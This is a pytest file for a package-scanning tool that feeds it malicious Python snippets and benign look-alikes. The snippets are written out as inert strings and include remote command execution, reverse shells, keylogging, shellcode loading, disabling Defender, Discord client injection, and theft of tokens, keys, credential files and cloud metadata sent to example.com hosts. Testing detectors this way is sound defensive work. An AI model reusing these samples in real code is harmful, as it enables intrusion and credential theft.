"""Behaviours rules 7 reads, each in a function of a module the package imports (code that
runs when the user calls it, not at install or import time), beside a look-alike that must
pass: a command taken from a socket, a chat bot or a local server's request and run; a shell
command fetched from a server; code fetched through an HTTP client object, or downloaded and
imported or run from a temporary file; machine code copied into memory and started; the
user's name spelled into a DNS look-up under the code's own domain; a mail account or bot
signed in to with credentials written in; a CI token or a wallet's private key sent in a
body; a key logger; credential files, the whole environment and the documents found
walking the user's home, the machine's cloud credentials from the metadata service, a
keyring secret and a ``.env`` file sent from a function; a download run by ``mshta``; a shell on a
socket's streams; Defender turned off; Discord's client injected with a download; a Slack
token written in, the user's name sent with it, or sent to a Google Apps Script; a program the wheel ships started hidden
when the package is imported; a command built from pieces (joined, concatenated,
formatted); build hooks hatch, pdm-backend and poetry load from the project. And what an
sdist keeps beside its package for its developers (``scripts/``) is not judged as code it
installs.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from pipgate.policies.scan import ScanPolicy
from pipgate.proxy.scan import scan_archive
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge_in_function as _scan

POLICY = ScanPolicy()


CASES = {
    "websocket command": (
        "download-exec",
        """\
import json, subprocess, websocket

def connect():
    ws = websocket.create_connection("wss://relay.example.net/agent")
    while True:
        job = json.loads(ws.recv())
        ws.send(subprocess.getoutput(job["cmd"]))
""",
        """\
import json, subprocess, websocket

def connect():
    ws = websocket.create_connection("wss://relay.example.net/agent")
    while True:
        job = json.loads(ws.recv())
        ws.send(subprocess.getoutput("uptime") + job["id"])
""",
    ),
    "discord bot command": (
        "download-exec",
        """\
import discord, subprocess

client = discord.Client(intents=discord.Intents.all())

@client.event
async def on_message(message):
    await message.channel.send(subprocess.getoutput(message.content))

def connect():
    client.run("MTEyMzQ1Njc4OTAxMjM0NTY3OA.GaBcDe.abcdefghijklmnopqrstuvwxyz0123456789AB")
""",
        """\
import discord, os, subprocess

client = discord.Client(intents=discord.Intents.all())

@client.event
async def on_message(message):
    if message.content == "!uptime":
        await message.channel.send(subprocess.getoutput("uptime"))

def connect():
    client.run(os.environ["DISCORD_TOKEN"])
""",
    ),
    "local server command": (
        "download-exec",
        """\
import http.server, subprocess, threading

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.check_output(self.path[1:], shell=True)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out)

def connect():
    server = http.server.HTTPServer(("0.0.0.0", 8765), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
""",
        """\
import http.server, subprocess, threading

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.check_output(["git", "rev-parse", "HEAD"])
        self.send_response(200)
        self.end_headers()
        self.wfile.write(out + self.path.encode())

def connect():
    server = http.server.HTTPServer(("127.0.0.1", 8765), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
""",
    ),
    "polled shell command": (
        "download-exec",
        """\
import requests, subprocess, time

def connect():
    while True:
        cmd = requests.get("https://cdn-update.example.com/task").text
        out = subprocess.check_output(cmd, shell=True)
        requests.post("https://cdn-update.example.com/result", data=out)
        time.sleep(30)
""",
        """\
import requests, subprocess

def connect():
    version = requests.get("https://pypi.org/pypi/demo/json").json()["info"]["version"]
    subprocess.check_output("git fetch --tags", shell=True)
    return version
""",
    ),
    "mail account": (
        "phone-home",
        """\
import getpass, smtplib, socket

def connect():
    server = smtplib.SMTP("smtp.gmail.com", 587)
    server.starttls()
    server.login("updatesvc2025@gmail.com", "abcd efgh ijkl mnop")
    body = f"Subject: up\\n\\n{socket.gethostname()} {getpass.getuser()}"
    server.sendmail("updatesvc2025@gmail.com", "updatesvc2025@gmail.com", body)
""",
        """\
import getpass, smtplib, socket

def connect(user, password):
    server = smtplib.SMTP("smtp.gmail.com", 587)
    server.starttls()
    server.login(user, password)
    body = f"Subject: up\\n\\n{socket.gethostname()} {getpass.getuser()}"
    server.sendmail(user, user, body)
""",
    ),
    "ci token": (
        "secret-exfil",
        """\
import os, requests

def connect():
    requests.post("https://stats.example.com/t", json={"gh": os.environ.get("GITHUB_TOKEN")})
""",
        """\
import os, requests

def connect():
    token = os.environ.get("GITHUB_TOKEN")
    return requests.get("https://api.github.com/user", headers={"Authorization": f"token {token}"})
""",
    ),
    "wallet private key": (
        "secret-exfil",
        """\
import requests

def connect(private_key):
    requests.post("https://rpc-stats.example.com/v1", json={"key": private_key})
""",
        """\
import requests
from eth_account import Account

def connect(private_key, tx):
    signed = Account.sign_transaction(tx, private_key)
    requests.post("https://rpc.example.com/v1", json={"tx": signed.raw_transaction.hex()})
""",
    ),
    "key logger": (
        "spyware",
        """\
import requests
from pynput import keyboard

keys = []

def on_press(key):
    keys.append(str(key))
    if len(keys) > 50:
        requests.post("https://logs.example.com/k", data="".join(keys))
        keys.clear()

def connect():
    keyboard.Listener(on_press=on_press).start()
""",
        """\
from pynput import keyboard

def on_press(key):
    if key == keyboard.Key.f12:
        print("toggled")

def connect():
    keyboard.Listener(on_press=on_press).start()
""",
    ),
    "git credentials": (
        "credential-exfil",
        """\
import os, requests

def connect():
    secrets = open(os.path.expanduser("~/.git-credentials")).read()
    requests.post("https://a.example.com/g", data=secrets)
""",
        """\
import os, requests

def connect():
    settings = open(os.path.expanduser("~/.config/demo.toml")).read()
    requests.post("https://a.example.com/g", data=settings)
""",
    ),
    "home sweep": (
        "credential-exfil",
        """\
import os, requests

def connect():
    for root, _, names in os.walk(os.path.expanduser("~")):
        for name in names:
            if name.endswith((".pdf", ".docx", ".txt", ".env")):
                with open(os.path.join(root, name), "rb") as handle:
                    requests.post("https://files.example.org/up", files={"f": handle})
""",
        """\
import os, requests

def connect(project):
    for root, _, names in os.walk(project):
        for name in names:
            if name.endswith(".whl"):
                with open(os.path.join(root, name), "rb") as handle:
                    requests.post("https://upload.example.org/", files={"f": handle})
""",
    ),
    "cloud metadata credentials": (
        "credential-exfil",
        """\
import requests

META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"

def connect():
    role = requests.get(META).text
    requests.post("https://collect.example.com/aws", data=requests.get(META + role).text)
""",
        """\
import requests

def connect():
    zone = requests.get("http://169.254.169.254/latest/meta-data/placement/region").text
    return requests.get(f"https://ec2.{zone}.amazonaws.com/ping").status_code
""",
    ),
    "keyring secret": (
        "credential-exfil",
        """\
import getpass, keyring, requests

def connect():
    secret = keyring.get_password("system", getpass.getuser())
    requests.post("https://collect.example.com/kr", data=secret)
""",
        """\
import getpass, keyring, requests

def connect():
    secret = keyring.get_password("demo", getpass.getuser())
    return requests.get("https://api.example.com/me", headers={"Authorization": secret})
""",
    ),
    "dotenv file": (
        "credential-exfil",
        """\
import requests

def connect():
    requests.post("https://collect.example.com/e", data=open(".env").read())
""",
        """\
import requests

def connect():
    requests.post("https://collect.example.com/e", data=open("report.csv").read())
""",
    ),
    "whole environment": (
        "credential-exfil",
        """\
import json, os, urllib.request

def connect():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://telemetry.example.io/c", data=body))
""",
        """\
import os, subprocess, urllib.request

def connect():
    env = os.environ.copy()
    env["LANG"] = "C"
    subprocess.run(["make"], env=env)
    return urllib.request.urlopen("https://telemetry.example.io/ping").read()
""",
    ),
    "http client session": (
        "download-exec",
        """\
import requests

def connect():
    session = requests.Session()
    exec(session.get("https://cdn.example.com/p").text)
""",
        """\
import requests

def connect(path):
    session = requests.Session()
    settings = session.get("https://cdn.example.com/p").json()
    exec(open(path).read(), {"settings": settings})
""",
    ),
    "downloaded module": (
        "drop-run",
        """\
import importlib.util, os, tempfile, urllib.request

def connect():
    path = os.path.join(tempfile.gettempdir(), "helper.py")
    urllib.request.urlretrieve("https://cdn.example.com/h.py", path)
    spec = importlib.util.spec_from_file_location("helper", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
""",
        """\
import importlib.util, os, urllib.request

def connect():
    urllib.request.urlretrieve("https://cdn.example.com/data.csv", "data.csv")
    path = os.path.join(os.path.dirname(__file__), "plugins", "csv.py")
    spec = importlib.util.spec_from_file_location("csv_plugin", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
""",
    ),
    "temporary script": (
        "drop-run",
        """\
import requests, subprocess, sys, tempfile

def connect():
    script = tempfile.NamedTemporaryFile(suffix=".py", delete=False)
    script.write(requests.get("https://cdn.example.com/p").content)
    script.close()
    subprocess.Popen([sys.executable, script.name])
""",
        """\
import requests, subprocess, sys, tempfile

def connect():
    version = requests.get("https://pypi.org/pypi/demo/json").json()["info"]["version"]
    script = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
    script.write("import sys; print(sys.version)")
    script.close()
    subprocess.run([sys.executable, script.name])
    return version
""",
    ),
    "shellcode": (
        "shellcode",
        """\
import ctypes

def connect(buf):
    kernel32 = ctypes.windll.kernel32
    ptr = kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)
    kernel32.RtlMoveMemory(ptr, buf, len(buf))
    kernel32.WaitForSingleObject(kernel32.CreateThread(0, 0, ptr, 0, 0, 0), -1)
""",
        """\
import ctypes

def connect(size):
    kernel32 = ctypes.windll.kernel32
    ptr = kernel32.VirtualAlloc(0, size, 0x3000, 0x04)
    kernel32.VirtualFree(ptr, 0, 0x8000)
""",
    ),
    "dns tunnel": (
        "phone-home",
        """\
import binascii, getpass, socket

def connect():
    label = binascii.hexlify(getpass.getuser().encode()).decode()
    socket.gethostbyname(label + ".x.collector.example.com")
""",
        """\
import socket

def connect():
    return socket.gethostbyname(socket.gethostname())
""",
    ),
    "reverse shell on a socket's streams": (
        "reverse-shell",
        """\
import socket, subprocess

def connect():
    s = socket.socket()
    s.connect(("relay.example.net", 9001))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
""",
        """\
import socket, subprocess

def connect(log):
    s = socket.socket()
    s.connect(("relay.example.net", 9001))
    subprocess.Popen(["git", "status"], stdout=log.fileno())
""",
    ),
    "defender turned off": (
        "defense-evasion",
        """\
import subprocess

def connect():
    subprocess.run("powershell Set-MpPreference -DisableRealtimeMonitoring $true", shell=True)
""",
        """\
import subprocess

def connect():
    print("If Defender slows the build, see Add-MpPreference -ExclusionPath in its docs.")
    subprocess.run(["cmake", "--build", "."])
""",
    ),
    "discord client injected": (
        "drop-run",
        """\
import glob, os, requests

def connect():
    pattern = os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules",
                           "discord_desktop_core-1", "discord_desktop_core", "index.js")
    for core in glob.glob(pattern):
        with open(core, "w") as handle:
            handle.write(requests.get("https://raw.example.com/inject.js").text)
""",
        """\
import glob, os, requests

def connect():
    pattern = os.path.join(os.getenv("LOCALAPPDATA"), "Demo", "settings.json")
    for path in glob.glob(pattern):
        with open(path, "w") as handle:
            handle.write(requests.get("https://api.example.com/settings").text)
""",
    ),
    "slack token": (
        "phone-home",
        """\
import getpass, requests, socket

def connect():
    requests.post(
        "https://slack.com/api/chat.postMessage",
        headers={"Authorization": "Bearer xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx"},
        json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()},
    )
""",
        """\
import getpass, os, requests, socket

def connect():
    requests.post(
        "https://slack.com/api/chat.postMessage",
        headers={"Authorization": "Bearer " + os.environ["SLACK_BOT_TOKEN"]},
        json={"channel": "C01", "text": socket.gethostname() + getpass.getuser()},
    )
""",
    ),
    "apps script endpoint": (
        "phone-home",
        """\
import getpass, requests, socket

def connect():
    requests.post(
        "https://script.google.com/macros/s/AKfycbx0123456789/exec",
        data={"u": getpass.getuser(), "h": socket.gethostname()},
    )
""",
        """\
import requests

def connect(answers):
    requests.post("https://docs.google.com/forms/d/e/1FAIpQLSf0123/formResponse", data=answers)
""",
    ),
    "mshta": (
        "download-run",
        """\
import os

def connect():
    os.system("mshta https://cdn.example.com/a.hta")
""",
        """\
import os

def connect():
    os.system("mshta.exe --help")
""",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_payload_in_a_function_of_an_imported_module_is_held(case: str) -> None:
    rule, malicious, _ = CASES[case]
    rules, held = _scan(malicious)
    assert rule in rules, rules
    assert held, rules


@pytest.mark.parametrize("case", sorted(CASES))
def test_its_everyday_look_alike_passes(case: str) -> None:
    rule, _, benign = CASES[case]
    rules, held = _scan(benign)
    assert rules.get(rule, 0) < 10, rules
    assert not held, rules


def test_a_screen_capture_beside_network_use_is_found_but_not_enough_alone() -> None:
    rules, held = _scan(
        """\
import io, requests
from PIL import ImageGrab

def connect():
    buffer = io.BytesIO()
    ImageGrab.grab().save(buffer, "PNG")
    requests.post("https://img.example.com/u", files={"s": buffer.getvalue()})
"""
    )
    assert rules.get("spyware") == 8
    assert not held
    rules, _ = _scan(
        "from PIL import ImageGrab\n\ndef connect():\n    ImageGrab.grab().save('s.png')\n"
    )
    assert "spyware" not in rules


def test_a_glob_over_the_ssh_folder_reads_keys() -> None:
    rules, _ = _scan(
        "import glob, os, requests\n\ndef connect():\n"
        '    for f in glob.glob(os.path.expanduser("~/.ssh/id_*")):\n'
        '        requests.post("https://keys.example.com", data=open(f).read())\n'
    )
    assert "credential-read" in rules


BOOTSTRAP = """\
import os, sys, tempfile
from urllib.request import urlopen

def main():
    with tempfile.NamedTemporaryFile(suffix=".py") as script:
        script.write(urlopen("https://bootstrap.pypa.io/get-pip.py").read())
        script.flush()
        os.system(f"{sys.executable} {script.name} --user")

if __name__ == "__main__":
    main()
"""


@pytest.mark.parametrize(
    ("members", "held"),
    [
        # A developer's tool beside the package: nothing installs or imports it.
        ({"scripts/internal/install_pip.py": BOOTSTRAP}, False),
        # The same code inside the package the sdist installs.
        ({"demo/install_pip.py": BOOTSTRAP}, True),
        # A `scripts` folder that is itself a package is installed like any other.
        ({"scripts/__init__.py": "", "scripts/install_pip.py": BOOTSTRAP}, True),
    ],
    ids=["developer folder", "package module", "package named scripts"],
)
def test_an_sdist_developer_folder_is_not_judged_as_installed_code(
    members: dict[str, str], held: bool
) -> None:

    archive = sdist({"PKG-INFO": pkg_info(), "demo/__init__.py": "", **members})
    report = scan_archive(archive, "demo-1.0.tar.gz")
    assert (not POLICY.decide(report).allowed) is held, report.findings


PROGRAM = b"MZ" + b"\x90\x00" * 30 + b"This program cannot be run in DOS mode" + b"\x00" * 200


@pytest.mark.parametrize(
    ("init", "held"),
    [
        (
            "import os, subprocess\n"
            "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'svc.exe')],"
            " creationflags=0x08000000)\n",
            True,
        ),
        (
            "import os, subprocess\n"
            "VERSION = subprocess.run([os.path.join(os.path.dirname(__file__), 'svc.exe'),"
            " '--version'], capture_output=True).stdout\n",
            False,
        ),
    ],
    ids=["started hidden", "asked its version"],
)
def test_a_program_the_wheel_ships_started_hidden_on_import_is_held(init: str, held: bool) -> None:
    archive = wheel({"demo/__init__.py": init, "demo/svc.exe": PROGRAM})
    report = scan_archive(archive, "demo-1.0-py3-none-any.whl")
    assert (not POLICY.decide(report).allowed) is held, report.findings


@pytest.mark.parametrize(
    ("init", "held"),
    [
        ('import os\nos.system("cu" + "rl -s htt" + "ps://x.example.com/a | ba" + "sh")\n', True),
        (
            "import subprocess\n"
            'cmd = " ".join(["curl", "-s", "https://x.example.com/a", "|", "bash"])\n'
            "subprocess.Popen(cmd, shell=True)\n",
            True,
        ),
        (
            'import os\nos.system("{} -s {} | {}".format("curl", "https://x.example.com/a", "sh"))\n',
            True,
        ),
        # Advice built the same way, printed, not run.
        (
            "import subprocess\n"
            'print("install it with: " + "curl -s https://x.example.com/a | sh")\n'
            'subprocess.run(["git", "--version"])\n',
            False,
        ),
    ],
    ids=["concatenated", "joined", "formatted", "printed"],
)
def test_a_command_built_from_pieces_is_read_whole(init: str, held: bool) -> None:
    report = scan_archive(wheel({"demo/__init__.py": init}), "demo-1.0-py3-none-any.whl")
    assert report.incomplete is None
    assert (not POLICY.decide(report).allowed) is held, report.findings


ENVIRONMENT_SENT = (
    "import os, requests\nrequests.post('https://c.example.com', data=str(dict(os.environ)))\n"
)


@pytest.mark.parametrize(
    ("pyproject", "hook"),
    [
        (
            "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
            "[tool.hatch.build.hooks.custom]\n",
            "hatch_build.py",
        ),
        (
            "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
            "[tool.hatch.build.targets.wheel.hooks.custom]\npath = 'tools/hooks.py'\n",
            "tools/hooks.py",
        ),
        (
            "[build-system]\nrequires = ['pdm-backend']\nbuild-backend = 'pdm.backend'\n",
            "pdm_build.py",
        ),
        (
            "[build-system]\nrequires = ['poetry-core']\n"
            "build-backend = 'poetry.core.masonry.api'\n[tool.poetry.build]\nscript = 'build.py'\n",
            "build.py",
        ),
    ],
    ids=["hatch default", "hatch path", "pdm", "poetry"],
)
def test_a_build_hook_the_backend_loads_is_install_code(pyproject: str, hook: str) -> None:
    members = {"PKG-INFO": pkg_info(), "pyproject.toml": pyproject, "demo/__init__.py": ""}
    held = scan_archive(sdist({**members, hook: ENVIRONMENT_SENT}), "demo-1.0.tar.gz")
    assert any(f.rule == "install-network" and f.file == hook for f in held.findings)
    assert not POLICY.decide(held).allowed
    # The same file, where no backend looks for it, is a module nothing runs.
    elsewhere = scan_archive(
        sdist({**members, "pyproject.toml": "[project]\nname = 'demo'\n", hook: ENVIRONMENT_SENT}),
        "demo-1.0.tar.gz",
    )
    assert not any(f.rule == "install-network" for f in elsewhere.findings)


EVERYDAY = {
    # A server binary named after the latest release's tag, downloaded and started.
    "release tag in a program's path": """\
import httpx, subprocess
from pathlib import Path

def connect(cache):
    tag = httpx.get("https://api.github.com/repos/demo/server/releases/latest").json()["tag_name"]
    binary = Path(cache, "server-" + tag)
    return subprocess.Popen([str(binary), "--port", "8080"])
""",
    # Repositories a user owns, cloned: a URL from the network as a program's argument.
    "cloned URL": """\
import json, subprocess
from urllib.request import urlopen

def connect(user):
    repos = json.loads(urlopen("https://api.github.com/users/" + user + "/repos").read())
    for repo in repos:
        subprocess.call(["git", "clone", repo["clone_url"]])
""",
    # An in-cluster client: the pod's token in a request's headers to the cluster's API.
    "token in a Request's headers": """\
import os, urllib.request

def connect():
    token = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
    host = os.environ["KUBERNETES_SERVICE_HOST"]
    request = urllib.request.Request(f"https://{host}/api", headers={"Authorization": f"Bearer {token}"})
    return urllib.request.urlopen(request).read()
""",
    # A debugger attaching to another process.
    "debugger attach": """\
import ctypes

def connect(process, dll):
    kernel32 = ctypes.windll.kernel32
    remote = kernel32.VirtualAllocEx(process, 0, len(dll), 0x3000, 0x04)
    kernel32.WriteProcessMemory(process, remote, dll, len(dll), None)
    kernel32.CreateRemoteThread(process, None, 0, kernel32.LoadLibraryW, remote, 0, None)
""",
    # A tool installer: a runtime's archive downloaded, its program run, when asked.
    "runtime installer": """\
import subprocess, urllib.request

def connect(version):
    data = urllib.request.urlopen(f"https://nodejs.org/dist/{version}/node.zip").read()
    open("node.zip", "wb").write(data)
    subprocess.Popen(["node.exe", "--version"])
""",
}


@pytest.mark.parametrize("case", sorted(EVERYDAY))
def test_everyday_shapes_of_network_and_process_code_pass(case: str) -> None:
    rules, held = _scan(EVERYDAY[case])
    assert not held, rules


def test_a_programs_own_url_downloaded_and_run_in_a_function_is_held() -> None:
    rules, held = _scan(
        """\
import requests, subprocess

def connect():
    data = requests.get("https://raw.example.com/tools/pics.exe").content
    open("pics.exe", "wb").write(data)
    subprocess.Popen("pics.exe")
"""
    )
    assert held, rules
